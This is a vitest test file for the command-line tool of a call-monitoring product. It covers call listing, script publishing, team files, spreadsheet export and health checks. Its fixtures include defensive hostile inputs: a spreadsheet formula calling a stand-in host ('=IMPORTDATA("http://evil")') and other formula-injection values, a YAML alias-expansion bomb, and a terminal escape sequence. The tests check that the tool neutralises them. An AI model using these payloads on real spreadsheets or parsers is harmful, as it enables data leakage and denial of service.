import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeEach, describe, expect, it } from 'vitest';
import { run } from './command-line.ts';
import { file, folder, product, setUpDesk } from './desk.ts';
import { aCallView, startProduct } from './product-server.ts';

setUpDesk();

const team = (change: object = {}) => ({
  id: 'team_mexico',
  name: 'México',
  locale: 'es-MX' as const,
  timeZone: 'America/Mexico_City',
  services: ['soporte'],
  members: [],
  ...change,
});
const callNumber = (n: number, change = {}) =>
  aCallView({ id: `call_${String(n).padStart(32, '0')}`, occurredAt: new Date(n * 1000).toISOString(), ...change });
const withCalls = (...calls: ReturnType<typeof aCallView>[]): void => {
  for (const call of calls) product.calls.set(call.id, call);
};

describe('calls list', () => {
  it('shows calls of a team that was stored with a time zone that does not exist', async () => {
    product.teams.set('team_mexico', team({ timeZone: 'Mars/Olympus' }));
    withCalls(callNumber(1));
    const { code, out } = await run(product, ['calls', 'list']);
    expect([code, out]).toEqual([0, expect.stringContaining(callNumber(1).id)]);
    expect((await run(product, ['calls', 'show', callNumber(1).id])).code).toBe(0);
  });

  it('shows the newest of all teams first, over as many pages as it takes', async () => {
    product.teams.set('team_mexico', team());
    product.teams.set('team_brasil', team({ id: 'team_brasil', name: 'Brasil' }));
    for (let n = 1; n <= 230; n += 1) withCalls(callNumber(n));
    withCalls(callNumber(500, { teamId: 'team_brasil' }));
    const { code, records } = await run(product, ['calls', 'list', '--limit', '210', '--json']);
    expect(code).toBe(0);
    expect(records).toHaveLength(210);
    expect(records[0]).toMatchObject({ teamId: 'team_brasil' });
  });

  it('takes a team by name and a state', async () => {
    product.teams.set('team_mexico', team());
    withCalls(callNumber(1), callNumber(2, { state: 'failed', ending: { kind: 'not-audio', message: 'No audio.' } }));
    const { out } = await run(product, ['calls', 'list', '--team', 'México', '--state', 'failed']);
    expect(out).toContain(callNumber(2).id);
    expect(out).not.toContain(callNumber(1).id);
    expect(out).toContain('No audio.');
  });

  it('says when there are none', async () => {
    product.teams.set('team_mexico', team());
    expect((await run(product, ['calls', 'list', '--lang', 'pt-BR'])).out).toBe('Não há chamadas.\n');
  });
});

describe('calls show', () => {
  const call = callNumber(7, {
    facts: { agentId: '101', service: 'soporte' },
    factSources: { agentId: 'call-list', service: 'sidecar' },
    problems: [{ kind: 'unknown-agent', message: 'Nobody has this id.' }],
    summary: { scriptId: 's', scriptVersion: 3, adherence: { score: 62.5, n: 8 }, flags: [] },
  });
  const words = (text: string) =>
    text.split(' ').map((word) => ({ text: word, startMs: 0, endMs: 1, confidence: 0.5 }));
  const turn = { startMs: 61_000, endMs: 63_000, confidence: 0.5 };
  beforeEach(() => {
    withCalls(call);
    product.details.set(call.id, {
      transcript: {
        language: 'es-MX',
        durationMs: 65_000,
        provenance: {
          engine: 'supplied',
          separation: 'channels',
          agent: { channel: 1, margin: 0.61, by: 'script-opening' },
        },
        turns: [
          { ...turn, speaker: 'agent', text: 'esta llamada se graba', words: words('esta llamada se graba') },
          { ...turn, speaker: 'customer', text: 'bueno \u001b[31m', words: words('bueno') },
        ],
      },
      verdicts: {
        scriptId: 's',
        scriptVersion: 3,
        adherence: { score: 62.5, n: 8 },
        steps: [
          {
            stepId: 'notice',
            verdict: 'said',
            confidence: 0.97,
            reason: 'matched',
            tooLate: true,
            evidence: { turnIndex: 0, startMs: 61_000, endMs: 63_000, quote: 'esta llamada se graba' },
          },
          { stepId: 'rude', verdict: 'said', confidence: 0.9, reason: 'matched' },
          { stepId: 'folio', verdict: 'unverifiable', confidence: 0.4, reason: 'low-confidence' },
        ],
      },
      script: {
        id: 's',
        language: 'es-MX',
        service: 'soporte',
        version: 3,
        order: 'none',
        effectiveFrom: '2026-01-01T00:00:00Z',
        publishedAt: '2026-01-01T00:00:00Z',
        publishedBy: 'a',
        steps: [
          { id: 'notice', title: 'Avisa que se graba', kind: 'required', phrases: [] },
          { id: 'rude', title: 'Se desentiende', kind: 'forbidden', phrases: [] },
          { id: 'folio', title: 'Da el folio', kind: 'required', phrases: [] },
        ],
      },
    });
  });

  it('reads like a page: state, origins, verdicts with their quote, who said what', async () => {
    const { code, out } = await run(product, ['calls', 'show', call.id], { LANG: 'es_MX.UTF-8' });
    expect(code).toBe(0);
    for (const line of [
      'agentId: 101  (lista de llamadas)',
      'service: soporte  (ficha)',
      'Nobody has this id.',
      '63 % (n = 8) · s v3',
      '✓ Avisa que se graba [obligatorio]: dicho, demasiado tarde (97 %)',
      '1:01  “esta llamada se graba”',
      '✗ Se desentiende [prohibido]: PROHIBIDO, dicho (90 %)',
      '? Da el folio [obligatorio]: no verificable (40 %)',
      'canal del asesor 1 (derecho), por el inicio del guion, margen 0.61',
      'llegó con la grabación, es-MX, 2 turnos, 5 palabras, confianza media 50 %',
      '1:01  Asesor: esta llamada se graba',
    ])
      expect(out).toContain(line);
    // What a customer said cannot recolour the terminal.
    expect(out).not.toContain('\u001b');
  });

  it('gives programs everything on one line and people nothing on standard output', async () => {
    const { out, err, records } = await run(product, ['calls', 'show', call.id, '--json']);
    expect(out.trim().split('\n')).toHaveLength(1);
    expect(records[0]).toMatchObject({ call: { id: call.id }, verdicts: { steps: [{}, {}, {}] } });
    expect(err).toBe('');
  });

  it('an unknown call fails with the server’s words', async () => {
    const { code, err, records } = await run(product, ['calls', 'show', 'call_unknown', '--json']);
    expect(code).toBe(1);
    expect(err).toContain('refused: not-found');
    expect(records).toMatchObject([{ type: 'error', kind: 'not-found' }]);
  });
});

describe('calls fix', () => {
  it('sends what is to be corrected over the revision that is there', async () => {
    withCalls(callNumber(1, { revision: 4 }));
    const { code } = await run(product, [
      ...['calls', 'fix', callNumber(1).id, '--service', 'ventas', '--agent', '9', '--agent-channel', '1'],
      ...['--language', 'es-MX', '--started-at', '2026-11-21T10:30:00-06:00'],
    ]);
    expect(code).toBe(0);
    expect(product.calls.get(callNumber(1).id)).toMatchObject({
      revision: 5,
      facts: {
        service: 'ventas',
        agentId: '9',
        agentChannel: 1,
        language: 'es-MX',
        startedAt: '2026-11-21T16:30:00.000Z',
      },
    });
  });

  it.each([
    [['--agent-channel', 'left'], '--agent-channel: "left" is not a number between 0 and 15'],
    [['--started-at', 'soon'], '--started-at: "soon" is not a date'],
    [[], 'Nothing to correct was given'],
  ])('%j is a usage error', async (options, message) => {
    const { code, err } = await run(product, ['calls', 'fix', 'call_1', ...options]);
    expect([code, err]).toEqual([2, expect.stringContaining(message)]);
  });
});

const SCRIPT = `id: br-cartoes
language: pt-BR
service: cartões
steps:
  - id: saudacao
    title: Saúda
    kind: required
    phrases: [Bom dia]
`;

describe('scripts publish', () => {
  it('takes YAML and JSON, one or a list, and says what was new', async () => {
    const path = await file('s.yaml', SCRIPT);
    expect((await run(product, ['scripts', 'publish', path])).out).toMatch(
      /br-cartoes: version 1 published.*\n {2}2 waiting calls/,
    );
    expect((await run(product, ['scripts', 'publish', path])).out).toContain(
      'br-cartoes: nothing new, version 1 stays',
    );
    const [script] = product.scripts.get('br-cartoes') ?? [];
    const list = [1, 2].map((n) => ({ id: `s${n}`, language: 'en-US', service: `x${n}`, steps: script?.steps }));
    const json = await run(product, ['scripts', 'publish', await file('list.json', JSON.stringify(list)), '--json']);
    expect(json.records.map(({ id, outcome }) => [id, outcome])).toEqual([
      ['s1', 'published'],
      ['s2', 'published'],
    ]);
    const shown = await run(product, ['scripts', 'show', 'br-cartoes']);
    expect(shown.out).toContain('saudacao  Saúda [required]');
    expect((await run(product, ['scripts', 'show', 'br-cartoes', '--version', '9'])).code).toBe(1);
    expect((await run(product, ['scripts', 'list', '--json'])).records).toHaveLength(3);
  });

  it('names file, line and field of every error at once, in the person’s language, and sends nothing', async () => {
    const path = await file(
      'bad.yaml',
      SCRIPT.replace('language: pt-BR', 'language: Portuguese')
        .replace('    kind: required\n', '    kind: obligatory\n    colour: red\n    window: { anchor: first }\n')
        .replace('service: cartões\n', ''),
    );
    const { code, err } = await run(product, ['scripts', 'publish', path, '--lang', 'es-MX']);
    expect(code).toBe(2);
    const lines = err.split('\n').map((line) => line.trim().replace(path, 'bad.yaml'));
    expect(lines).toEqual([
      'bad.yaml: 5 errores; no se hizo nada',
      'bad.yaml, línea 1, service: falta',
      'bad.yaml, línea 2, language: debe ser un idioma como es-MX, pt-BR o en-US',
      'bad.yaml, línea 6, steps[0].kind: debe ser uno de: required, conditional, forbidden',
      'bad.yaml, línea 7, steps[0].colour: no es un campo conocido',
      'bad.yaml, línea 8, steps[0].window: indica seconds o share, uno de los dos',
      '',
    ]);
    expect(product.scripts.size).toBe(0);
  });

  it('tells what contradicts itself together with what has the wrong shape, by line', async () => {
    const second = SCRIPT.replace('[Bom dia]', '["Bom {dia"]').replace('br-cartoes', 'other');
    const list = [SCRIPT.replace('required', 'required\n    weight: much'), second]
      .map((one) => `- ${one.trim().replaceAll('\n', '\n  ')}`)
      .join('\n');
    const { code, err } = await run(product, ['scripts', 'publish', await file('list.yaml', list)]);
    expect(code).toBe(2);
    expect(err.split('\n').map((line) => line.replace(/^.*list\.yaml/, 'list.yaml'))).toEqual([
      'list.yaml: 2 errors; nothing was done',
      'list.yaml, line 8, [0].steps[0].weight: must be a number',
      'list.yaml, line 17, [1].steps[0].phrases[0]: “Bom {dia”: the braces of a slot do not match',
      '',
    ]);
    expect(product.requests).toEqual([]);
  });

  it('refuses a copy whose id was forgotten, at its line', async () => {
    const list = [SCRIPT, SCRIPT].map((one) => `- ${one.trim().replaceAll('\n', '\n  ')}`).join('\n');
    const { code, err } = await run(product, ['scripts', 'publish', await file('l.yaml', list), '--lang', 'pt-BR']);
    expect([code, err]).toEqual([
      2,
      expect.stringMatching(/linha 9, \[1\]\.id: “br-cartoes”: outro roteiro do arquivo tem este identificador/),
    ]);
  });

  it('shows what only the server sees at its line as well', async () => {
    product.refuseFields('/api/scripts', [{ path: 'scripts[0].steps[0].title', message: 'is no good' }]);
    const { code, err } = await run(product, ['scripts', 'publish', await file('s.yaml', SCRIPT)]);
    expect([code, err]).toEqual([2, expect.stringMatching(/s\.yaml, line 6, steps\[0\]\.title: is no good/)]);
  });

  it.each([
    ['steps:\n\t- id: x', /line 2: /],
    ['id: "a', /line 1: a closing quote is missing/],
    ['id: a\nid: b', /line 2: the key stands twice/],
    ['', /line 1: the file is empty/],
    ['[]', /line 1: the file is empty/],
    ['just words', /line 1: must be a group of fields/],
    ['- 7', /line 1, \[0\]: must be a group of fields/],
  ])('%j is an error with its line', async (content, message) => {
    const { code, err } = await run(product, ['scripts', 'publish', await file('x.yaml', content)]);
    expect([code, err]).toEqual([2, expect.stringMatching(message)]);
  });

  it('refuses a file that grows without end through aliases', async () => {
    const bomb = [
      'a: &a [x,x,x,x,x,x,x,x,x]',
      'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
      'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
      'd: [*c,*c,*c,*c,*c,*c,*c,*c]',
    ];
    const { code } = await run(product, ['scripts', 'publish', await file('bomb.yaml', bomb.join('\n'))]);
    expect(code).not.toBe(0);
  });

  it('a file that is not there is a usage error', async () => {
    expect((await run(product, ['scripts', 'publish', join(folder.path, 'none.yaml')])).code).toBe(2);
    expect((await run(product, ['scripts', 'publish', folder.path])).code).toBe(2);
  });
});

describe('teams', () => {
  it('apply creates teams of a file, and list shows them', async () => {
    const path = await file('teams.json', JSON.stringify([team(), team({ id: 'team_br', name: 'Brasil' })]));
    expect((await run(product, ['teams', 'apply', path])).code).toBe(0);
    const { out } = await run(product, ['teams', 'list']);
    expect(out).toContain('Brasil');
    expect(out).toContain('America/Mexico_City');
  });

  it.each([
    ['en', 'must be a time zone that exists'],
    ['es-MX', 'debe ser una zona horaria que exista'],
    ['pt-BR', 'deve ser um fuso horário que exista'],
  ])('apply refuses a time zone that does not exist, at its line, and sends nothing (%s)', async (lang, complaint) => {
    const teams = [team(), team({ id: 'team_br', timeZone: 'America/San_Paulo' })];
    const path = await file('zones.json', JSON.stringify(teams, null, 1));
    const { code, err } = await run(product, ['teams', 'apply', path, '--lang', lang]);
    expect(code).toBe(2);
    expect(err).toMatch(new RegExp(`zones\\.json, [^ ]+ \\d+, \\[1\\]\\.timeZone: ${complaint}`));
    expect(product.teams.size).toBe(0);
  });

  it('apply names the field of a member that is wrong', async () => {
    const bad = team({ members: [{ email: 'nobody', name: 'X', role: 'boss' }] });
    const { code, err } = await run(product, ['teams', 'apply', await file('t.json', JSON.stringify(bad, null, 1))]);
    expect(code).toBe(2);
    expect(err).toMatch(/line \d+, members\[0\]\.email: must be an e-mail address/);
    expect(err).toMatch(/line \d+, members\[0\]\.role: must be one of: admin, supervisor, monitor, agent/);
  });
});

describe('sheets', () => {
  beforeEach(() => {
    product.teams.set('team_mexico', team({ spreadsheetId: 'book1' }));
    product.teams.set('team_new', team({ id: 'team_new', name: 'Nuevo' }));
    product.tabs.set("Monitoreo d'hoy", [
      ['Clave', 'Nota', 'Adherencia'],
      ['call_1', '=IMPORTDATA("http://evil")', 87.5],
      ['call_2', '+52 55', '-3,5 %'],
      ['call_3', '\t=1+1', true],
      ['call_4', '@SUM(A1)', '-1+cmd'],
      ['call_5'],
    ]);
  });

  it('export as CSV guards what would become a formula and keeps numbers', async () => {
    const { code, out } = await run(product, ['sheets', 'export', 'México', "Monitoreo d'hoy", '--csv']);
    expect(code).toBe(0);
    expect(parse(out)).toEqual([
      ['Clave', 'Nota', 'Adherencia'],
      ['call_1', '\'=IMPORTDATA("http://evil")', '87.5'],
      ['call_2', "'+52 55", '-3,5 %'],
      ['call_3', "'\t=1+1", 'true'],
      ['call_4', "'@SUM(A1)", "'-1+cmd"],
      ['call_5', '', ''],
    ]);
  });

  it('export for programs gives a row an object', async () => {
    const { records } = await run(product, ['sheets', 'export', 'book1', "Monitoreo d'hoy", '--json']);
    expect(records[4]).toEqual({ Clave: 'call_5', Nota: '', Adherencia: '' });
  });

  it.each([
    [['nowhere', 'x'], 'There is no workbook "nowhere". There are: México, Nuevo'],
    [['team_new', 'x'], 'The workbook of Nuevo has not been created yet'],
    [['team_mexico', 'x'], 'There is no tab "x". There are: Monitoreo d\'hoy'],
  ])('export %j says what there is', async (names, message) => {
    const { code, err } = await run(product, ['sheets', 'export', ...names]);
    expect([code, err]).toEqual([1, expect.stringContaining(message)]);
  });

  it('list shows addresses', async () => {
    expect((await run(product, ['sheets', 'list'])).out).toContain('/workbook/book1');
  });
});

describe('whom the command line talks to', () => {
  it('finds the API under /api or at the root, as a deployed system has it', async () => {
    const deployed = await startProduct({ prefix: '' });
    deployed.teams.set('team_mexico', team());
    const { code, out } = await run(deployed, ['teams', 'list'], { MONITORIA_TOKEN: 'given' });
    await deployed.close();
    expect([code, out]).toEqual([0, expect.stringContaining('México')]);
    expect(deployed.requests.at(-1)?.token).toBe('Bearer given');
  });

  it('acts as the person it is told to, in the person’s language', async () => {
    await run(product, ['teams', 'list', '--as', 'ana@x.mx', '--lang', 'pt-BR']);
    expect(product.requests.at(-1)).toMatchObject({ token: 'Bearer ana@x.mx#1', language: 'pt-BR' });
  });

  it('asks for a new token once when the old one is over', async () => {
    product.refuse('/api/teams', 401);
    expect((await run(product, ['teams', 'list'])).code).toBe(0);
    expect(product.requests.at(-1)?.token).toMatch(/#2$/);
  });

  it('waits for a busy server', async () => {
    product.refuse('/api/teams', 503);
    expect((await run(product, ['teams', 'list'])).code).toBe(0);
  });

  it('says how to start it when nothing answers: exit code 3', async () => {
    const { code, err } = await run({ url: 'http://127.0.0.1:9' }, ['teams', 'list'], { LANG: 'pt_BR.UTF-8' });
    expect(code).toBe(3);
    expect(err).toContain('Ninguém responde em http://127.0.0.1:9');
    expect(err).toContain('npm start');
  });

  it('knows another program from Monitoria', async () => {
    const { code, err } = await run({ url: `${product.url}/sheets` }, ['teams', 'list']);
    expect(code).toBe(3);
    expect(err).toContain('but not as Monitoria does');
  });
});

describe('doctor', () => {
  it('says what is well and what is not, and fails only for what is not', async () => {
    product.teams.set('team_mexico', team());
    withCalls(callNumber(1, { state: 'failed' }));
    const { code, records } = await run(product, ['doctor', '--json', '--data', folder.path]);
    const levels = Object.fromEntries(records.map(({ check, level }) => [check, level]));
    expect(levels).toMatchObject({
      'data-folder': 'ok',
      server: 'ok',
      access: 'ok',
      'failed-calls': 'warn',
      model: 'ok',
    });
    expect(code).toBe(levels.node === 'ok' ? 0 : 1);
  });

  it('tells a free port from one that another program holds', async () => {
    const taken = await run({ url: `${product.url}/sheets` }, ['doctor', '--data', folder.path]);
    expect([taken.code, taken.out]).toEqual([1, expect.stringContaining('another program holds')]);
    const free = await run({ url: 'http://127.0.0.1:9' }, ['doctor', '--data', folder.path]);
    expect(free.out).toContain('the port is free: npm start');
  });

  it('names an ffmpeg that does not run and a data folder that cannot be', async () => {
    const { code, out } = await run(product, ['doctor', '--data', join(folder.path, 'no', 'such', 'place')], {
      FFMPEG_PATH: '/nowhere/ffmpeg',
    });
    expect(code).toBe(1);
    expect(out).toMatch(/FAIL\s+data folder .* cannot be written \(ENOENT\)/);
    expect(out).toContain('FFMPEG_PATH does not name a program that runs (ENOENT)');
  });
});
